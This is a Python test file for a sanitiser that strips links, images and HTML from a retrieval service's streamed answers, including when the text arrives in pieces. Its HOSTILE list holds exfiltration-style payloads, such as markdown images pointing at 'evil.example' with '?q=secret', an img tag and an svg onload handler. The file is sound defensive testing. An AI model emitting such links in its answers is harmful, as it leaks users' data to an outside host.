"""Links and pictures by address in an answer's text come apart, however the text is cut into pieces."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.serve.openai.addresses import AddressBreaker, broken

HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "[click](http://evil.example)",
    "![x](//evil.example/x.png)",
    "![1]\n\n[1]: https://evil.example/x.png",
    "![a][b]\n\n[b]:\n//evil.example/x.png",
    "![a]\n\n[a]: <//evil.example/x.png>",
    "![a]\n\n[a]: /relative.png",
    "<https://evil.example/>",
    "<img src=//evil.example/x.png>",
    "<svg/onload=1>",
    "see www.evil.example/?q=secret",
    "HTTPS://evil.example",
    "[![x](//a.example/b)](//c.example)",
]
KEPT = ["The pump [1][2] is closed [3].", "See [1] for the pump.", "a < b and 3:4", "Hours: 10/12", "w. www"]


def drawn(text):
    return MarkdownIt("commonmark", {"linkify": False}).render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_a_front_end_would_load_is_left(text):
    assert not [mark for mark in ("<a ", "<img", "<svg", "://", "www.e") if mark in drawn(broken(text)).lower()]


@pytest.mark.parametrize("text", KEPT)
def test_other_text_stays_as_it_is(text):
    assert broken(text) == text


@given(st.lists(st.text("]([:/<aw.x 1!\n", max_size=6), max_size=8))
def test_pieces_give_what_the_whole_gives(pieces):
    breaker = AddressBreaker()
    shown = "".join([*map(breaker.feed, pieces), breaker.flush()])
    assert shown == broken("".join(pieces))
    assert breaker.found == (shown != "".join(pieces))
